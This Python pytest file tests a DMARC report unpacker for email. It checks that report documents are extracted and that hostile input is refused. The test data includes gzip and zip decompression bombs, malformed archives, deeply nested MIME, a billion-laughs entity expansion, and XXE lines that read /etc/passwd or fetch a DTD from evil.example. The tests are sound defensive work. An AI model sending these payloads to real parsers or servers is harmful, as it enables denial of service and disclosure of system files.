"""Documents in messages and archives, and what somebody sends to fill memory, disk or time."""

import gzip
import tracemalloc
import zipfile
import zlib
from io import BytesIO

import pytest

from mailadmin.reports import dmarc, letters
from mailadmin.reports.report import NoReport
from mailadmin.reports.unpacking import MOST_UNPACKED
from tests.reports.letters import dmarc as document
from tests.reports.letters import message, numbered, record, tls, zipped

XML = document()


@pytest.mark.parametrize(
    ("kind", "packed"),
    [
        ("application/zip", zipped(XML)),
        ("application/gzip", gzip.compress(XML)),
        ("application/x-gzip", gzip.compress(XML)),
        ("application/octet-stream", zipped(XML)),
        ("text/plain", gzip.compress(XML)),
        ("application/xml", XML),
        ("application/pdf", XML),
        ("application/zip", zipped(XML, method=zipfile.ZIP_STORED)),
        ("application/zip", zipped(gzip.compress(XML))),
        ("application/zip", zipped(zipped(XML))),
        ("application/gzip", gzip.compress(zipped(XML))),
    ],
    ids=numbered,
)
def test_the_document_is_found_whatever_the_attachment_says_to_be(kind, packed):
    if kind == "text/plain":  # the library packs no bytes as text
        packed = message(packed).replace(b"application/zip", b"text/plain")
    else:
        packed = message(packed, kind=kind)

    assert list(letters.documents(packed)) == [XML]


def test_several_attachments_and_files_are_all_found():
    other, third = document(number="2"), tls()

    found = letters.documents(message(zipped(XML, other), gzip.compress(third)))

    assert list(found) == [XML, other, third]


def test_a_message_that_was_forwarded_as_an_attachment_is_looked_into():
    inner = message(zipped(XML)).decode()
    outer = "\n".join(["MIME-Version: 1.0", "Content-Type: message/rfc822", "", inner])

    assert list(letters.documents(outer.encode())) == [XML]


def test_a_report_in_the_body_itself_is_found():
    head = b"Content-Type: application/gzip\nContent-Transfer-Encoding: base64\n\n"

    assert list(letters.documents(head + b64(gzip.compress(XML)))) == [XML]


def b64(data):
    import base64

    return base64.encodebytes(data)


def test_several_members_of_gzip_are_one_document():
    halves = gzip.compress(XML[:500]) + gzip.compress(XML[500:])

    assert list(letters.documents(message(halves))) == [XML]


BOMB = zlib.compressobj(9, wbits=31)
BOMB = BOMB.compress(b"<" + bytes(200_000_000)) + BOMB.flush()


@pytest.mark.parametrize(
    "packed",
    [
        BOMB,
        zipped(b"<" + bytes(MOST_UNPACKED)),
        zipped(*[b"<" + bytes(9_000_000)] * 3),
        gzip.compress(b"<" + bytes(9_000_000)) * 3,
        zipped(BOMB),
        zipped(zipped(b"<" + bytes(MOST_UNPACKED))),
    ],
    ids=["gzip", "zip", "files", "members", "gzip in zip", "zip in zip"],
)
def test_a_bomb_is_refused_before_it_is_unpacked(packed):
    letter = message(packed)
    tracemalloc.start()
    with pytest.raises(NoReport, match="larger than 25,000,000 bytes"):
        list(letters.documents(letter))
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert most < 6 * MOST_UNPACKED


def test_attachments_together_have_one_bound():
    with pytest.raises(NoReport, match="larger than 25,000,000 bytes"):
        list(letters.documents(message(*[gzip.compress(b"<" + bytes(9_000_000))] * 3)))


def lying(packed):
    """An archive that says of its file that it is a few bytes long."""
    with zipfile.ZipFile(BytesIO(packed)) as archive:
        size = archive.infolist()[0].file_size.to_bytes(4, "little")
    return packed.replace(size, (5).to_bytes(4, "little"))


@pytest.mark.parametrize(
    ("packed", "why"),
    [
        (zipped(zipped(zipped(XML))), "archives within archives"),
        (gzip.compress(gzip.compress(gzip.compress(XML))), "archives within archives"),
        (zipped(*[XML] * 21), "too many files"),
        (zipped(XML, method=zipfile.ZIP_LZMA), "packed in an unusual way"),
        (zipped(XML, method=zipfile.ZIP_BZIP2), "packed in an unusual way"),
        (zipped(XML).replace(b"\x14\x00\x00\x00", b"\x14\x00\x01\x00"), "packed in an unusual way"),
        (zipped(XML)[:-30], "the archive is broken"),
        (zipped(XML)[:200], "the archive is broken"),
        (lying(zipped(XML)), "the archive is broken"),
        (gzip.compress(XML)[:-30], "the archive is cut off"),
        (gzip.compress(XML)[:10] + b"rubbish" * 9, "the archive is"),
    ],
    ids=numbered,
)
def test_an_archive_that_cannot_be_right_is_refused(packed, why):
    with pytest.raises(NoReport, match=why):
        list(letters.documents(message(packed)))


@pytest.mark.parametrize(
    "letter",
    [
        b"",
        b"\x00\xff" * 1000,
        b"Subject: hello\n\nno report here\n",
        b"Content-Type: multipart/mixed; boundary=\n\n--\n",
        b"Content-Type: multipart/mixed\n\n\n",
        b"Content-Type: text/plain; charset=klingon\nContent-Transfer-Encoding: base64\n\n%%%%\n",
        b"Content-Type: application/zip\nContent-Transfer-Encoding: uuencode\n\nbegin\n",
        b"Content-Type: " + b";" * 19_000 + b"\n\nx",
        b'Content-Type: multipart/mixed; x="' + b";" * 19_000 + b'"\n\nx',
        message(b"%PDF-1.4"),
        message(b"MZ" + bytes(5000)),
    ],
    ids=numbered,
)
def test_a_message_without_a_report_has_no_documents(letter):
    assert list(letters.documents(letter)) == []


@pytest.mark.parametrize(
    "letter",
    [
        b"x" * 10_000_001,
        message(*[b"x"] * 60),
        b"".join(
            b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (n, n) for n in range(5000)
        ),
    ],
    ids=["size", "parts", "depth"],
)
def test_a_message_beyond_the_bounds_is_refused(letter):
    with pytest.raises(NoReport):
        list(letters.documents(letter))


def nested(depth, content):
    heads = [f'Content-Type: multipart/mixed; BOUNDARY="b{n}"\n\n--b{n}\n' for n in range(depth)]
    return "".join(heads).encode() + b"\n" + content


@pytest.mark.parametrize(
    "letter",
    [
        nested(51, b""),
        nested(1, b"--b0\n" * 501),
        nested(1, b"\r--b0" * 501),
        nested(1, b"\n" * 300_001),
        nested(1, b"\r" * 300_001),
        b"Content-Type: multipart/mixed" + b";" * 20_001 + b"\n\n",
    ],
    ids=["levels", "boundaries", "boundaries of Macs", "lines", "lines of Macs", "parameters"],
)
def test_a_message_that_takes_long_is_refused_before_it_is_taken_apart(letter, monkeypatch):
    monkeypatch.setattr(letters, "message_from_bytes", None)

    with pytest.raises(NoReport, match="too many parts or lines"):
        list(letters.documents(letter))


def test_a_large_message_and_one_with_many_levels_are_within_the_bounds():
    large = document(*[record("192.0.2.1", 1)] * 10_000)
    deep = nested(45, b"--b44\nContent-Type: text/xml\n\n" + XML.rstrip())

    assert list(letters.documents(message(large))) == [large]
    assert list(letters.documents(deep)) == [XML.rstrip()]


ENTITIES = '<!DOCTYPE feedback [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)


@pytest.mark.parametrize(
    "head",
    [
        ENTITIES + "]>\n",
        '<!DOCTYPE feedback [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n',
        '<!DOCTYPE feedback SYSTEM "http://evil.example/x.dtd">\n',
        '<!DOCTYPE feedback [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>\n',
        "<!DOCTYPE feedback>\n",
    ],
    ids=numbered,
)
def test_document_types_and_entities_are_refused(head):
    with pytest.raises(NoReport, match="a document type or an entity"):
        dmarc.read(document(head=head, org="&j;"))


@pytest.mark.parametrize(
    "content",
    [
        b"<feedback>" * 100_000,
        b"<feedback>" + b"<a>" * 25,
        b"<feedback " + b"a" * 1000 + b"='1' " + b"a" * 1000 + b"='1'>",
        b'<?xml version="1.0" encoding="klingon"?><feedback/>',
        b'<?xml version="1.0" encoding="utf-7"?><feedback/>',
        b"<feedback>&undeclared;</feedback>",
        b"<feedback>\x00</feedback>",
        b"<feedback>\xed\xa0\x80</feedback>",
    ],
    ids=numbered,
)
def test_xml_that_is_hostile_or_broken_is_refused(content):
    with pytest.raises(NoReport):
        dmarc.read(content)


def test_of_a_long_element_only_the_beginning_is_kept():
    found = dmarc.read(document(org="x" * 5_000_000))

    assert found.reporter == "x" * 255


def test_what_is_beyond_a_thousand_servers_is_added_up():
    many = [record(f"198.51.{n // 250}.{n % 250}", 2, "fail", "fail") for n in range(1500)]

    found = dmarc.read(document(record("192.0.2.1", 9), *many)).senders

    assert len(found) == 1001
    assert found["192.0.2.1", True, True, "none"] == 9
    assert found["", False, False, "none"] == 2 * 501
    assert found.total() == 9 + 2 * 1500


def test_words_of_strangers_are_one_line_of_what_can_be_printed():
    found = dmarc.read(document(org="a\u202eb&#10;c\x7f<![CDATA[<script>]]>"))

    assert found.reporter == "a b c <script>"
